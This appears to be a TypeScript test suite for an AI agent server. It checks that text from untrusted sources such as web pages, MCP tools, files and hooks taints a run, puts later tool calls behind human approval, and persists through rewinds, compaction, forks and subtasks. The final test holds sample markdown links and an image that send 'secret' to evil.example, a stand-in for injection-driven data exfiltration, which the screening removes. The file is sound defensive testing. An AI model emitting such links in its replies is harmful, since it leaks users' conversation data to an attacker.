// Taint, the untrusted sources of texts in a run: their travel, the rules that depend on them, and links of replies.
import assert from "node:assert/strict";
import { createHmac } from "node:crypto";
import { before, describe, test } from "node:test";
import { calls, inTurn, startChat, turn } from "../support/chat.ts";
import { eventually } from "../support/eventually.ts";
import { type HookEndpoint, hookEndpoint } from "../support/hook-endpoint.ts";
import { startMcpSite } from "../support/mcp-site.ts";
import type { MockModel } from "../support/mock-model.ts";
import { apiKeys, type TestServer } from "../support/server.ts";
import { cleanup, tempDir } from "../support/temp.ts";
import { startWebSite } from "../support/web-site.ts";

const { env, keys } = apiKeys({
  ann: { tenant_id: "acme", sub: "ann", scopes: ["*"] },
  ben: { tenant_id: "acme", sub: "ben", scopes: ["*"] },
});
const as = { key: keys.ann };
const sum = ["calculator", { expression: "1+1" }] as const;
const fetched = ["fetch", { url: "http://site.example/page" }] as const;
const page = "The weather is fine at [the lake](https://site.example/lake?day=2).";
/** Asks for 300 ms, so that a gated call ends with a denial. */
const rule = { id: "tainted", tools: ["calculator"], when_tainted: ["*"], ttl_seconds: 0.3 };
const secret = "a secret of some length";
const base = {
  tools: ["calculator", "read_file", "write_file", "plan_create", "plan_get", "trigger_event"],
  http_tools: [{ name: "fetch" }],
  approvals: [rule],
};

interface Message {
  readonly role: string;
  readonly content: string;
}

type Call = readonly [name: string, args: object];

describe("taint", () => {
  const atEnd = cleanup();
  let server: TestServer;
  let mock: MockModel;
  let endpoint: HookEndpoint;
  let threads = 0;
  before(async () => {
    const site = await startWebSite(atEnd);
    const mcp = await startMcpSite(atEnd);
    endpoint = await hookEndpoint(atEnd);
    mcp.tools = [{ name: "read", inputSchema: { type: "object", properties: {} } }];
    mcp.answer = () => ({ content: [{ type: "text", text: "News of the site." }] });
    const hook = { id: "notes", event: "user_prompt_submit", endpoint: "ours" };
    const screening = { content_screening: { enabled: true } };
    ({ server, mock } = await startChat(atEnd, {
      models: ["scripted", "worker", "screened"],
      manifests: {
        agent: base,
        asking: { ...base, approvals: [{ ...rule, ttl_seconds: 60, when_tainted: ["web:*"] }] },
        other: { ...base, approvals: [{ ...rule, when_tainted: ["mcp:*"] }] },
        risky: { ...base, approvals: [{ id: "risky", tools: ["*"], risks: ["writes"], ttl_seconds: 0.3 }] },
        edits: {
          ...base,
          approvals: [{ ...rule, tools: ["write_file"], allow_unattended: true }],
          permissions: { default_mode: "accept_edits", allowed_modes: ["accept_edits", "bypass"] },
        },
        windowed: { ...base, session: { strategy: "windowed:2" } },
        compacting: { ...base, session: { compaction_enabled: true, keep_recent_tokens: 1 } },
        artifacts: { ...base, artifacts: { enabled: true, threshold_chars: 40, preview_chars: 10 } },
        served: { ...base, mcp_servers: [{ name: "site", url: "http://mcp.example/mcp", transport: "http" }] },
        clicking: { ...base, client_tools: [{ name: "click" }] },
        hooked: { ...base, hooks: [hook] },
        lead: { ...base, delegation: { agents: [{ name: "helper" }] } },
        helper: { ...base, model: { id: "worker" } },
        screened: { ...base, ...screening, model: { id: "screened" }, approvals: [] },
        unscreened: { ...base, model: { id: "screened" }, approvals: [] },
      },
      env: {
        ...env,
        HOOK: secret,
        SVC_AUDIT_FLUSH_SECONDS: "1",
        SVC_WORKSPACE_ROOT: tempDir(atEnd),
        SVC_ALLOW_INSECURE: "true",
        SVC_TRIGGERS: JSON.stringify({
          news: { tenant: "acme", manifest: "agent", scheme: "standard", secret, prompt: "Go." },
        }),
        SVC_WEBHOOK_ENDPOINTS: JSON.stringify({
          ours: { url: endpoint.url, secret: "hook-secret", tenants: "*", private: true, hooks: true },
        }),
        SVC_TEST_RESOLVE: JSON.stringify({
          "site.example": `127.0.0.1:${site.port}`,
          "mcp.example": `127.0.0.1:${mcp.port}`,
        }),
        SVC_EGRESS_PRIVATE: JSON.stringify(
          [site.port, mcp.port].map((port) => ({ host: "127.0.0.1", port, tenants: "*" })),
        ),
      },
    }));
    site.on("/page", (_, response) => response.setHeader("content-type", "text/plain").end(page));
  });

  const newThread = () => `taint-${threads++}`;
  const resultsOf = (model: string): string[] => {
    const { messages = [] } = mock.requests.findLast((request) => request.model === model)?.body ?? {};
    const all = messages as readonly Message[];
    const ofTurn = all.slice(all.findLastIndex(({ role }) => role === "user"));
    return ofTurn.flatMap(({ role, content }) => (role === "tool" ? [content] : []));
  };
  /** Runs a turn that makes these calls one after the other. Returns their results. */
  async function run(manifest: string, thread_id: string, ...wanted: readonly Call[]): Promise<string[]> {
    mock.answer("scripted", inTurn(...wanted.map((call) => calls(call)), { text: "Done." }));
    const { status, text } = await server.post("/chat", turn(manifest, "go", { thread_id }), as);
    assert.equal(status, 200, text);
    return resultsOf("scripted");
  }
  const isGated = (result: string | undefined) => {
    assert.match(String(result), /^(2$|\[approval (timeout|unattended)\])/);
    return result !== "2";
  };
  const eventsOf = async (thread: string) =>
    (await server.get(`/chat/sessions/${thread}`, as)).json.transcript as {
      readonly kind: string;
      readonly role: string;
      readonly id: string;
      readonly metadata: { readonly taint?: string[] };
    }[];

  test("a run without untrusted text is not gated by a rule with when_tainted", async () => {
    const thread = newThread();

    const [result] = await run("agent", thread, sum);

    assert.equal(isGated(result), false);
    assert.ok((await eventsOf(thread)).every(({ metadata }) => metadata?.taint === undefined));
  });

  // Information flow, first part: each source of untrusted text gates a later call of the same run.
  const sources: readonly (readonly [source: string, manifest: string, steps: readonly Call[]])[] = [
    ["web:site.example", "agent", [fetched]],
    ["mcp:site", "served", [["site__read", {}]]],
    [
      "file",
      "agent",
      [
        ["write_file", { path: "a.txt", content: "Hello." }],
        ["read_file", { path: "a.txt" }],
      ],
    ],
    ["hook", "hooked", []],
  ];
  for (const [source, manifest, steps] of sources)
    test(`a call after a text of ${source} is gated, and the log names the source`, async () => {
      const thread = newThread();
      endpoint.answers.set("notes", () => ({ additional_context: "The hook says hello." }));

      const results = await run(manifest, thread, ...steps, sum);

      assert.equal(isGated(results.at(-1)), true);
      const tainted = (await eventsOf(thread)).filter(({ metadata }) => metadata?.taint?.includes(source));
      assert.ok(tainted.some(({ role }) => role === "assistant"));
    });

  test("a call after the event of a trigger is gated", async () => {
    mock.answer("scripted", inTurn(calls(["trigger_event", {}]), calls(sum), { text: "Done." }));
    const body = JSON.stringify({ type: "news", note: "hello" });
    const at = Math.floor(Date.now() / 1000);
    const hash = createHmac("sha256", secret).update(`d1.${at}.`).update(body).digest("base64");
    const headers = { "webhook-id": "d1", "webhook-timestamp": `${at}`, "webhook-signature": `v1,${hash}` };
    const before = mock.requests.length;

    const { status, text } = await server.request("POST", "/triggers/news", { body, headers });

    assert.ok(status < 300, text);
    await eventually("the run has ended", async () => mock.requests.length >= before + 3);
    assert.equal(isGated(resultsOf("scripted").at(-1)), true);
  });

  test("a call after the result of a client's tool is gated", async () => {
    const thread_id = newThread();
    mock.answer("scripted", inTurn(calls(["click", {}]), calls(sum), { text: "Done." }));
    const stream = await server.stream("/chat/stream", turn("clicking", "go", { thread_id }), as);
    const { json } = await stream.until("tool_request");
    const answer = { thread_id, tool_call_id: json.data.id, content: "Hello." };

    const { json: told } = await server.post("/chat/tool_result", answer, as);
    await stream.rest();

    assert.equal(told.signaled, true);
    assert.equal(isGated(resultsOf("scripted").at(-1)), true);
    assert.ok((await eventsOf(thread_id)).some(({ metadata }) => metadata?.taint?.includes("client")));
  });

  // Information flow, second part: the source of a text travels with everything that is made of it.
  test("a later turn of the thread is gated, and a rewind before the text ends that", async () => {
    const thread = newThread();
    await run("agent", thread);
    const first = (await eventsOf(thread)).at(-1);
    await run("agent", thread, fetched);

    const [later] = await run("agent", thread, sum);
    const back = { thread_id: thread, event_id: first?.id, summarize: false };
    const rewound = await server.post("/chat/rewind", back, as);
    const [after] = await run("agent", thread, sum);

    assert.equal(rewound.status, 200, rewound.text);
    assert.deepEqual([isGated(later), isGated(after)], [true, false]);
  });

  test("a windowed session that has dropped the text is gated", async () => {
    const thread = newThread();
    await run("windowed", thread, fetched);
    for (let turns = 0; turns < 3; turns++) await run("windowed", thread);

    const [result] = await run("windowed", thread, sum);

    assert.ok(!JSON.stringify(mock.requests.at(-1)?.body).includes("The weather"));
    assert.equal(isGated(result), true);
  });

  test("a compaction and a fork inherit the source", async () => {
    const thread = newThread();
    await run("compacting", thread, fetched);
    await run("compacting", thread);
    mock.answer("scripted", { text: "A summary." });
    const compacted = await server.post("/chat/compact", { thread_id: thread }, as);
    const summary = (await eventsOf(thread)).find(({ kind }) => kind === "compaction");
    const forked = `${thread}-fork`;
    await server.post("/chat/fork", { thread_id: thread, new_thread_id: forked }, as);

    const [result] = await run("compacting", thread, sum);
    const [ofFork] = await run("compacting", forked, sum);

    assert.equal(compacted.status, 200, compacted.text);
    assert.deepEqual(summary?.metadata.taint, ["web:site.example"]);
    assert.deepEqual([isGated(result), isGated(ofFork)], [true, true]);
  });

  test("a task inherits from its agent, and an agent from its task", async () => {
    mock.answer("worker", inTurn(calls(sum), { text: "Done." }));
    await run("lead", newThread(), fetched, ["task", { agent: "helper", prompt: "Add." }]);
    const child = resultsOf("worker").at(-1);
    mock.answer("worker", inTurn(calls(fetched), { text: "Fine weather." }));
    const results = await run("lead", newThread(), ["task", { agent: "helper", prompt: "Look." }], sum);
    mock.answer("worker", { text: "Nothing." });
    const untainted = await run("lead", newThread(), ["task", { agent: "helper", prompt: "Rest." }], sum);

    assert.equal(isGated(child), true);
    assert.equal(isGated(results.at(-1)), true);
    assert.equal(isGated(untainted.at(-1)), false);
  });

  test("an artifact and a plan keep the source for those who read them", async () => {
    const thread = newThread();
    const steps = [{ title: "Look." }];
    await run("agent", thread, fetched, ["plan_create", { plan_id: "p1", title: "Fine", steps }]);
    const clean = newThread();
    await run("agent", clean, ["plan_create", { plan_id: "p2", title: "Fine", steps }]);
    const [shown = ""] = await run("artifacts", newThread(), fetched);

    const plan = await run("agent", thread, ["plan_get", { plan_id: "p1" }]);
    const [, ofClean] = await run("agent", clean, ["plan_get", { plan_id: "p2" }], sum);

    assert.match(plan[0] ?? "", /"taint":\["web:site\.example"\]/);
    assert.equal(isGated(ofClean), false);
    assert.match(shown, /\[artifact [0-9a-f-]+: /);
  });

  test("the rule matches the sources that it names, and the approver sees source, event and text", async () => {
    const thread = newThread();
    const passed = await run("other", newThread(), fetched, sum);
    mock.answer("scripted", inTurn(calls(fetched), calls(sum), { text: "Done." }));
    const answered = server.post("/chat", turn("asking", "go", { thread_id: thread }), as);
    const request = await eventually("a request", async () => {
      const { json } = await server.get(`/approvals?thread_id=acme:${thread}`, as);
      return json.items[0];
    });

    const decided = await server.post(`/approvals/${request.approval_id}/decide`, { decision: "approved" }, as);
    await answered;

    assert.equal(passed.at(-1), "2");
    const [tainted] = request.evidence.tainted;
    assert.equal(tainted.source, "web:site.example");
    assert.match(tainted.text, /The weather is fine/);
    assert.match(tainted.event_id, /^[0-9a-f]{32}$/);
    assert.equal(decided.status, 200, decided.text);
    assert.equal(resultsOf("scripted").at(-1), "2");
    // The approval held for one call.
    mock.answer("scripted", inTurn(calls(sum), { text: "Done." }));
    const again = server.post("/chat", turn("asking", "go", { thread_id: thread }), as);
    const second = await eventually("another request", async () => {
      const { json } = await server.get(`/approvals?thread_id=acme:${thread}`, as);
      return json.items[0];
    });
    await server.post(`/approvals/${second.approval_id}/decide`, { decision: "denied" }, as);
    await again;
    assert.notEqual(second.approval_id, request.approval_id);
  });

  test("accept_edits and allow_unattended do not waive a conditional rule; bypass does, audited", async () => {
    const write = ["write_file", { path: "b.txt", content: "x" }] as const;
    const edited = await run("edits", newThread(), fetched, write);
    const bypassed = newThread();
    await server.post("/chat/mode", { thread_id: bypassed, mode: "bypass", manifest: "edits" }, as);
    const free = await run("edits", bypassed, fetched, write);

    assert.match(edited.at(-1) ?? "", /^\[approval timeout\]/);
    assert.doesNotMatch(free.at(-1) ?? "", /approval/);
    const row = await eventually("a row", async () => {
      const { json } = await server.get("/audit?event_type=approval_waived", as);
      return (json.items as { payload: Record<string, unknown> }[]).find(
        ({ payload }) => payload.tool === "write_file",
      );
    });
    assert.deepEqual(row.payload.taint, ["web:site.example"]);
  });

  test("a rule with risks gates the tools of these risks alone", async () => {
    const results = await run("risky", newThread(), sum, ["write_file", { path: "c.txt", content: "x" }]);

    assert.equal(results[0], "2");
    assert.match(results[1] ?? "", /^\[approval timeout\]/);
  });

  test("a reply of a tainted run loses links and images that could carry the conversation", async () => {
    const said =
      "See ![map](https://evil.example/m?q=secret), [x](https://evil.example/?q=secret) and [the lake](https://site.example/lake?day=2).";
    mock.answer("screened", inTurn(calls(fetched), { text: said }));
    const ask = (manifest: string) => server.post("/chat", turn(manifest, "go", { thread_id: newThread() }), as);
    const screened = await ask("screened");
    const unscreened = await ask("unscreened");
    mock.answer("screened", { text: said });
    const untainted = await ask("screened");

    assert.equal(
      screened.json.final.content,
      "See map (evil.example), [x]() and [the lake](https://site.example/lake?day=2).",
    );
    assert.equal(unscreened.json.final.content, said);
    assert.equal(untainted.json.final.content, said);
    const { json } = await eventually("a row", async () => {
      const found = await server.get("/audit?event_type=guardrails_reply", as);
      return found.json.items.length > 0 ? found : undefined;
    });
    assert.deepEqual(json.items[0].payload.found, { LINK: 2 });
  });
});
